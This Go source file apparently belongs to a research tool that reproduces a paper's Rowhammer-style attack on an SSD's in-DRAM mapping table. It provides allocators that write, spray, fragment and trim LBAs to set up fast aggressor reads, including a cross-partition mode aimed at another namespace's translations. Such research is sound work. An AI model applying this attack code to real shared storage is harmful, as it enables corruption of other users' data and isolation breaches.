package attack

import (
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// Allocator places attacker state over the FTL and derives hammerable
// bindings. Implementations differ in *placement*: where the attacker's
// populated and trimmed LBAs end up, and therefore which L2P rows it
// can drive fast. sides is the pattern's requested sidedness (extra
// sides bind same-bank far rows).
type Allocator interface {
	Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error)
}

// prepare writes the §3.1 setup fill to one LBA.
func prepare(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, lba ftl.LBA, buf []byte) error {
	for j := range buf {
		buf[j] = byte(lba) ^ 0xA5
	}
	return dev.Write(ns, lba, buf, path)
}

// PinAndTrim returns a copy of b whose sides each keep only their first
// LBA, and trims those LBAs, so every hammer read takes the fast,
// flash-skipping trimmed path — the acceleration the §3 threat model
// calls out. The copy owns a fresh Sides slice, so b is left untouched.
func PinAndTrim(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, b Binding) (Binding, error) {
	sides := make([][]ftl.LBA, len(b.Sides))
	for s, group := range b.Sides {
		sides[s] = group[:1]
		if err := dev.Trim(ns, group[0], path); err != nil {
			return b, err
		}
	}
	b.Sides = sides
	return b, nil
}

// ContiguousAllocator is the paper's placement: the linear L2P layout
// already maps a contiguous LBA range onto consecutive DRAM lines, so
// analysis alone yields bindings; the aggressor LBAs are then trimmed
// for interface-speed reads.
type ContiguousAllocator struct {
	// MaxBindings bounds the result (0: all).
	MaxBindings int
	// VictimNSID, when non-zero, binds cross-partition triples whose
	// victim rows hold that namespace's translations (§4.2); zero binds
	// triples within the attacker's own partition (Figure 1).
	VictimNSID int
}

// Allocate analyzes the layout and readies the fast-read path.
func (a *ContiguousAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error) {
	bindings, err := Analyze(dev, ns, AnalyzeOptions{VictimNSID: a.VictimNSID, Sides: sides})
	if err != nil {
		return nil, err
	}
	if a.MaxBindings > 0 && len(bindings) > a.MaxBindings {
		bindings = bindings[:a.MaxBindings]
	}
	for i := range bindings {
		if bindings[i], err = PinAndTrim(dev, ns, path, bindings[i]); err != nil {
			return nil, err
		}
	}
	return bindings, nil
}

// SprayedAllocator spreads writes at a large stride across the whole
// namespace before analyzing — the §4.2 "spray the partition" placement
// that maximizes how many victim lines sit next to populated attacker
// entries. Bindings whose victim lines the spray actually covered sort
// first.
type SprayedAllocator struct {
	// Blocks is how many LBAs to spray (default: namespace/64).
	Blocks int
	// MaxBindings bounds the result (0: all).
	MaxBindings int
}

// Allocate sprays, analyzes, ranks by spray coverage, and readies the
// fast-read path.
func (a *SprayedAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error) {
	blocks := a.Blocks
	if blocks <= 0 {
		blocks = int(ns.NumLBAs / 64)
		if blocks == 0 {
			blocks = 1
		}
	}
	stride := ftl.LBA(ns.NumLBAs / uint64(blocks))
	if stride == 0 {
		stride = 1
	}
	buf := make([]byte, dev.BlockBytes())
	sprayed := make(map[ftl.LBA]bool, blocks)
	for i := 0; i < blocks; i++ {
		lba := ftl.LBA(i) * stride
		if uint64(lba) >= ns.NumLBAs {
			break
		}
		if err := prepare(dev, ns, path, lba, buf); err != nil {
			return nil, err
		}
		sprayed[ns.StartLBA+lba] = true
	}
	bindings, err := Analyze(dev, ns, AnalyzeOptions{Sides: sides})
	if err != nil {
		return nil, err
	}
	// Stable partition: bindings whose victim lines the spray populated
	// first — hammering lands where placement actually worked.
	covered := func(b Binding) bool {
		for _, g := range b.VictimGlobalLBAs {
			for k := ftl.LBA(0); k < 16; k++ {
				if sprayed[g+k] {
					return true
				}
			}
		}
		return false
	}
	ordered := make([]Binding, 0, len(bindings))
	for _, b := range bindings {
		if covered(b) {
			ordered = append(ordered, b)
		}
	}
	for _, b := range bindings {
		if !covered(b) {
			ordered = append(ordered, b)
		}
	}
	if a.MaxBindings > 0 && len(ordered) > a.MaxBindings {
		ordered = ordered[:a.MaxBindings]
	}
	for i := range ordered {
		if ordered[i], err = PinAndTrim(dev, ns, path, ordered[i]); err != nil {
			return nil, err
		}
	}
	return ordered, nil
}

// FragmentedAllocator writes alternating chunks and trims every other
// one, fragmenting the FTL's physical placement while leaving the L2P
// region itself linear: the trimmed chunks give the attacker many
// interface-speed LBAs, the populated chunks keep neighbouring victim
// lines mapped. Bindings prefer aggressor LBAs from trimmed chunks.
type FragmentedAllocator struct {
	// Chunk is the run length in LBAs (default 16, one L2P line).
	Chunk int
	// Span bounds how many LBAs are touched (default: namespace/8).
	Span int
	// MaxBindings bounds the result (0: all).
	MaxBindings int
}

// Allocate fragments the front of the namespace, analyzes, and readies
// the fast-read path.
func (a *FragmentedAllocator) Allocate(dev *nvme.Device, ns *nvme.Namespace, path nvme.Path, sides int) ([]Binding, error) {
	chunk := a.Chunk
	if chunk <= 0 {
		chunk = 16
	}
	span := a.Span
	if span <= 0 {
		span = int(ns.NumLBAs / 8)
	}
	if uint64(span) > ns.NumLBAs {
		span = int(ns.NumLBAs)
	}
	buf := make([]byte, dev.BlockBytes())
	trimmed := make(map[ftl.LBA]bool)
	for base := 0; base+chunk <= span; base += 2 * chunk {
		for k := 0; k < chunk; k++ {
			if err := prepare(dev, ns, path, ftl.LBA(base+k), buf); err != nil {
				return nil, err
			}
		}
		for k := chunk; k < 2*chunk && base+k < span; k++ {
			lba := ftl.LBA(base + k)
			if err := prepare(dev, ns, path, lba, buf); err != nil {
				return nil, err
			}
			if err := dev.Trim(ns, lba, path); err != nil {
				return nil, err
			}
			trimmed[lba] = true
		}
	}
	bindings, err := Analyze(dev, ns, AnalyzeOptions{Sides: sides})
	if err != nil {
		return nil, err
	}
	if a.MaxBindings > 0 && len(bindings) > a.MaxBindings {
		bindings = bindings[:a.MaxBindings]
	}
	// Prefer already-trimmed aggressor LBAs (no extra trim needed);
	// fall back to pin-and-trim for sides the fragmentation missed.
	for i := range bindings {
		b := &bindings[i]
		for s := range b.Sides {
			pick := b.Sides[s][0]
			for _, lba := range b.Sides[s] {
				if trimmed[lba] {
					pick = lba
					break
				}
			}
			b.Sides[s] = []ftl.LBA{pick}
			if !trimmed[pick] {
				if err := dev.Trim(ns, pick, path); err != nil {
					return nil, err
				}
			}
		}
	}
	return bindings, nil
}
